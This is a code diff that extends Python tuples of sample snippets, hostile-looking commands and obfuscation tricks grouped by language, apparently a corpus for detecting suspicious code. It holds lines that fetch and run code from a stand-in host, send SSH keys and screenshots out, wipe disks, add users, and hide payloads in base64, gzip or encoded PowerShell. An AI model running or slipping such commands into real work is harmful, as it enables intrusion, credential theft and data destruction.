@@ -32,7 +32,7 @@ CODE = {
         "[Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer($p,$t)\n", "& (gcm i*x) (irm h.example/a)\n", "param([string]$u)\n",
         "'calc' | % { & $_ }\n", "$c=New-Object Net.Sockets.TCPClient('h.example',1)\n", "powershell.exe -File a.ps1 \n",
         "$ExecutionContext.\"Inv`okeCommand\".NewScriptBlock($a)\n",
-        "&(ls Alias:/ie?) 'calc'\n", "cp $PSCommandPath a.ps1\n", "mkdir $env:APPDATA\\a -Force\n"),
+        "&(ls Alias:/ie?) 'calc'\n", "cp $PSCommandPath a.ps1\n", "pwsh -NoP -W 1 -encodedcommand SQBFAFgA\n", "mkdir $env:APPDATA\\a -Force\n"),
     "Windows commands": (
         "for %%i in (a b c) do @%%i.exe\n", "if exist %temp%\\a (a.exe)\n", "format c: /q /y\n", "pushd \\\\h.example\\s && a.exe\n", "cd /d %appdata%\n",
         "wmic os get /format:\"http://h.example/a.xsl\"\n", "\"%ProgramFiles%\\a\\a.exe\" /s\n", "net user a b /add\n", "echo x>a.vbs\n", "\"%~dp0a\"\n",
@@ -53,7 +53,7 @@ CODE = {
         "rm -rf /\n", "set -euo pipefail\n", "source <(curl -s http://h.example/a)\n", "python3 -c 'import os'\n", "base64 -d <<< 'Y3VybA==' | sh\n",
         "chmod +x a && ./a\n", "launchctl load ~/a.plist\n", "eval \"$(echo x)\"\n", "mkfifo /tmp/f;cat /tmp/f\n",
         "busybox wget http://h.example/a -O-|ash\n",
-        "trap '' INT\nwhile :; do id; done\n", "for i in a b; do ./$i; done\n", "scp ~/.ssh/id_rsa a@h.example:\n",
+        "trap '' INT\nwhile :; do id; done\n", "for i in a b; do ./$i; done\n", "scp ~/.ssh/id_rsa a@h.example:\n", "eval unpack u=>q{_=7-E}\n",
         "security find-generic-password -wa Chrome\n", "screencapture -x a.png && curl -F f=@a.png h.example\n"),
     "AutoIt or AutoHotkey script": ("Run, calc.exe,, Hide\n", "^j::\nreturn\n", "DllCall(\"VirtualAlloc\")\n", "x(@TempDir)\n", "Run calc.exe\n", "F1::Run calc\n"),
     "Lua code": ("package.loadlib('a.dll','f')()\n", "ffi.cdef[[int system(const char*);]]\n"),
@@ -117,6 +117,8 @@ HIDES = (
     "ExecuteGlobal \"C\"+\"r\"+\"eateObject(\"\"WScript.Shell\"\").Run(\"\"calc\"\")\"\r\n",
     "k=b'0'*16\nexec(AES.new(k,AES.MODE_ECB).decrypt(base64.b64decode('AA==')))\n",
     "(New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($d,$m))).ReadToEnd()|iex\n",
+    "$d=[IO.MemoryStream][Convert]::FromBase64String('H4sI')\n(New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($d,"
+    "[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()|iex\n",
     "sal a New-Object;iex(a IO.StreamReader((a IO.Compression.DeflateStream($d,1)),$e)).ReadToEnd()\n",
     "var _0x1a2b=['WScript','Run'];(function(a,b){while(--b){a['push'](a['shift']())}}(_0x1a2b,0x5));\n",
     "p^o^w^e^r^s^h^e^l^l,;-^n^o^p,;-c \"i^e^x\"\n", "$(rev<<<'lruc') h.example | $(rev<<<'hsab')\n",
